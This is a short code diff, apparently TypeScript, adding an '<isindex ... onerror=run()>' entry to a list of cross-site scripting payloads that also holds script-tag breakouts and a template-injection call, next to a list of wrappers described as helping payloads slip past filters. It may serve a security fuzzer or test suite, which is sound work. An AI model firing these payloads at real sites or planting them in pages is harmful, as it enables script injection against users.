@@ -38,6 +38,7 @@ const BASES = [
   '<video><source onerror=run()></video>',
   '{{constructor.constructor("run()")()}}',
   '"><script>run()</script>',
+  '<isindex type=image src=x onerror=run()>',
 ];
 /** What is put around a payload, to slip past whoever looks at beginnings. */
 const DRESS: readonly ((payload: string) => string)[] = [
